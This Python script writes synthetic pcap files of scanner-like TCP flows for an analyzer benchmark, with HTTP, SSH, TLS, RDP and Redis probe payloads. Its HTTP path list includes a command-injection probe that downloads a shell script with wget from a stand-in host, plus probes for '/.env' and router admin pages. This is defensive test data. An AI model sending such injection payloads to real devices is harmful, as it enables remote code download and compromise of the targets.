#!/usr/bin/python3
"""Writes a corpus of lurker-like pcaps for the analyzer benchmark: one flow per pcap, as lurker's capturer writes
them (SYN, SYN+ACK, the client's ACK, what the client sent, its retransmissions while nothing is acknowledged,
FIN or RST). Payloads are what scanners send: HTTP requests, SSH banners, TLS ClientHellos, RDP, Redis, binary
probes, and some multi-segment uploads. Deterministic (seeded).
Usage: analyzer_corpus.py OUTDIR COUNT [--merged FILE]   (--merged also writes every flow into one pcap)
"""
import os
import random
import struct
import sys

HTTP_PATHS = ["/", "/.env", "/wp-login.php", "/cgi-bin/luci;stok=/locale", "/boaform/admin/formLogin",
              "/shell?cd+/tmp;wget+http://x/x.sh", "/HNAP1/", "/actuator/health", "/solr/admin/info/system"]
AGENTS = ["Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "python-requests/2.31", "Go-http-client/1.1",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0"]


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def ipv4_tcp(src, dst, sport, dport, seq, ack, flags, payload=b"", window=64240):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff, 5 << 4, flags, window, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp) + len(payload))
    csum = checksum(pseudo + tcp + payload)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    total = 20 + len(tcp) + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.randint(0, 65535), 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    eth = b"\x02\x00\x00\x00\x00\x02\x02\x00\x00\x00\x00\x01\x08\x00"
    return eth + ip + tcp + payload


def client_payload(rng):
    kind = rng.random()
    if kind < 0.45:
        return ("GET %s HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: %s\r\nAccept: */*\r\nConnection: close\r\n\r\n"
                % (rng.choice(HTTP_PATHS), rng.choice(AGENTS))).encode()
    if kind < 0.60:
        return rng.choice([b"SSH-2.0-Go\r\n", b"SSH-2.0-libssh_0.9.6\r\n",
                           b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n"])
    if kind < 0.72:
        sni = b"example%d.test" % rng.randint(0, 999)
        ext = struct.pack("!HHHBH", 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
        ext += struct.pack("!HH", 10, 8) + struct.pack("!HHHH", 6, 29, 23, 24)
        ext += bytes(rng.getrandbits(8) for _ in range(rng.randint(100, 400)))
        client_random = bytes(rng.getrandbits(8) for _ in range(32))
        body = b"\x03\x03" + client_random + b"\x00" + struct.pack("!H", 8) + b"\x13\x01\x13\x02\xc0\x2b\xc0\x2f"
        body += b"\x01\x00" + struct.pack("!H", len(ext)) + ext
        hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
        return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs
    if kind < 0.78:
        return bytes.fromhex("0300002b26e00000000000") + b"Cookie: mstshash=Administr\r\n" + bytes.fromhex(
            "0100080003000000")
    if kind < 0.84:
        return b"*1\r\n$4\r\nINFO\r\n"
    if kind < 0.94:
        return bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 300)))
    return ("POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 20000\r\n\r\n").encode() + bytes(
        rng.getrandbits(8) for _ in range(rng.randint(5000, 40000)))


def flow_packets(rng, i, t0):
    src = bytes([198, 51, 100, rng.randint(1, 254)])
    dst = bytes([203, 0, 113, 10])
    sport = rng.randint(1024, 65535)
    dport = rng.choice([22, 23, 80, 443, 445, 3389, 6379, 8080, 8443, 2222, rng.randint(1, 65535)])
    cisn, sisn = rng.getrandbits(32), rng.getrandbits(32)
    pkts = [ipv4_tcp(src, dst, sport, dport, cisn, 0, 0x02, window=1024 if rng.random() < 0.3 else 64240)]
    pkts.append(ipv4_tcp(dst, src, dport, sport, sisn, cisn + 1, 0x12))
    if rng.random() < 0.25:  # a SYN scan: reset at once
        pkts.append(ipv4_tcp(src, dst, sport, dport, cisn + 1, 0, 0x04))
    else:
        pkts.append(ipv4_tcp(src, dst, sport, dport, cisn + 1, sisn + 1, 0x10))
        data = client_payload(rng)
        segs = [(off, data[off:off + 1448]) for off in range(0, len(data), 1448)]
        for off, chunk in segs:
            pkts.append(ipv4_tcp(src, dst, sport, dport, cisn + 1 + off, sisn + 1, 0x18, chunk))
        for _ in range(rng.randint(0, 3)):  # nothing is acknowledged: the client retransmits
            off, chunk = segs[0]
            pkts.append(ipv4_tcp(src, dst, sport, dport, cisn + 1 + off, sisn + 1, 0x18, chunk))
        pkts.append(ipv4_tcp(src, dst, sport, dport, cisn + 1 + len(data), sisn + 1,
                             0x11 if rng.random() < 0.5 else 0x14))
    return [(t0 + i * 0.7 + k * 0.2, p) for k, p in enumerate(pkts)]


def write_pcap(path, packets):
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        for ts, p in packets:
            sec = int(ts)
            f.write(struct.pack("<IIII", sec, int((ts - sec) * 1e6), len(p), len(p)) + p)


def main():
    out, count = sys.argv[1], int(sys.argv[2])
    merged = sys.argv[sys.argv.index("--merged") + 1] if "--merged" in sys.argv else None
    os.makedirs(out, exist_ok=True)
    rng = random.Random(20261125)
    random.seed(1)
    everything = []
    for i in range(count):
        pkts = flow_packets(rng, i, 1764098401.0)
        write_pcap(os.path.join(out, "%06d.pcap" % i), pkts)
        everything += pkts
    if merged:
        write_pcap(merged, sorted(everything, key=lambda p: p[0]))


if __name__ == "__main__":
    main()
